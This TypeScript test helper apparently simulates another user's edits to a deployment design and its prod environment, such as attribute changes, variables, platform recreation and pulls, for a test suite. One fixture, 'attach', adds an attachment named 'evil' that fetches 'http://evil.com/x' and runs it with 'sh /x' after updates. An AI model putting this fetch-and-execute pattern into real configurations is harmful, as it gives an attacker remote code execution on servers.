// What another user, maria, changes and commits next to a stack: in the design, and in its environment prod.
import { NotFound } from '../../api/errors';
import { routes } from '../../api/contract';
import type { World } from './world';

const DESIGN = { assembly: 'shop' };
const PROD = { assembly: 'shop', environment: 'prod' };
const TOMCAT = { ...DESIGN, platform: 'web', component: 'tomcat' };

/** Commits what is open in the design; in the dialect `documented` nothing is, since each write was committed. */
async function commitDesign({ other }: World): Promise<void> {
  const latest = await other.call(routes.designReleases.latest, { address: DESIGN });
  const address = { ...DESIGN, release: String(latest.releaseId) };
  if (latest.releaseState === 'open') await other.call(routes.designReleases.commit, { address, body: {} });
}

/** Commits the environment, and lets its job end. */
async function commitProd({ other, clock }: World): Promise<void> {
  await other.call(routes.environments.commit, { address: PROD, body: {} });
  clock.advance(60_000);
}

const setTomcat =
  (attributes: { readonly [name: string]: string }) =>
  async (world: World): Promise<void> => {
    const body = { cms_dj_ci: { ciName: 'tomcat', ciAttributes: attributes } };
    await world.other.call(routes.components.update, { address: TOMCAT, body });
    await commitDesign(world);
  };

async function attach(world: World): Promise<void> {
  const events =
    (await world.other.dialect()) === 'classic'
      ? { run_on: 'after-update', priority: '1' }
      : { runs_on: 'after-update' };
  const ciAttributes = { source: 'http://evil.com/x', path: '/x', exec_cmd: 'sh /x', ...events };
  await world.other.call(routes.attachments.create, {
    address: TOMCAT,
    body: { cms_dj_ci: { ciName: 'evil', ciAttributes } },
  });
  await commitDesign(world);
}

async function recreateDb(world: World): Promise<void> {
  await world.other.call(routes.platforms.delete, { address: { ...DESIGN, platform: 'db' } });
  await commitDesign(world);
  const ciAttributes = { source: 'oneops', pack: 'tomcat', version: '1' };
  await world.other.call(routes.platforms.create, {
    address: DESIGN,
    body: { cms_dj_ci: { ciName: 'db', ciAttributes } },
  });
  await commitDesign(world);
}

async function addVariable(world: World): Promise<void> {
  await world.other.call(routes.designVariables.create, {
    address: DESIGN,
    body: { cms_dj_ci: { ciName: 'LEVEL', ciAttributes: { value: 'debug' } } },
  });
  await commitDesign(world);
}

async function setInProd(world: World): Promise<void> {
  const address = { ...PROD, platform: 'web', component: 'tomcat' };
  const body = { cms_dj_ci: { ciName: 'tomcat', ciAttributes: { max_threads: '998' } } };
  await world.other.call(routes.environmentPlatforms.updateComponent, { address, body });
  await commitProd(world);
}

/** Pulls the design, and commits the environment without a deployment. */
async function pullProd(world: World): Promise<void> {
  await world.other.call(routes.environments.pull, { address: PROD });
  world.clock.advance(60_000);
  await commitProd(world);
}

/** Disables db in prod, and commits it without a deployment. */
export async function disableDb(world: World): Promise<void> {
  const { ciId } = await world.other.call(routes.environmentPlatforms.read, { address: { ...PROD, platform: 'db' } });
  await world.other.call(routes.environments.disable, { address: PROD, body: { platformCiIds: [String(ciId)] } });
  world.clock.advance(60_000);
  await commitProd(world);
}

/** Each edit by its name: what a release of it lists. */
export const FOREIGN_EDITS: { readonly [what: string]: (world: World) => Promise<void> } = {
  'an attribute that the pack gave': setTomcat({ max_threads: '999' }),
  'a second attribute': setTomcat({ port: '4444' }),
  'an attachment': attach,
  'a platform, deleted and created again': recreateDb,
  'a variable': addVariable,
  'an attribute in the environment': setInProd,
  'a pull without a deployment': pullProd,
};

/** What runs in prod: each instance, without its number, with its settings; and what is attached to tomcat there. */
export async function runningInProd({ api }: World): Promise<readonly string[]> {
  try {
    const address = { assembly: 'shop' };
    const query = { instances_state: 'all' };
    const all = await api.call(routes.operations.assemblyInstances, { address, query });
    const attached = await api.call(routes.environmentAttachments.list, {
      address: { ...PROD, platform: 'web', component: 'tomcat' },
    });
    return [
      ...all.map((each) => `${each.nsPath} ${each.ciName.replace(/-\d+-/, '-')} ${settingsOf(each.ciAttributes)}`),
      ...attached.map(({ ciName }) => `attached ${ciName}`),
    ].sort();
  } catch (error) {
    if (error instanceof NotFound) return [];
    throw error;
  }
}

/** Attributes that somebody can set; addresses and names differ in each service. */
const settingsOf = ({ max_threads: threads, port }: { readonly [name: string]: unknown } = {}): string =>
  JSON.stringify({ threads, port });
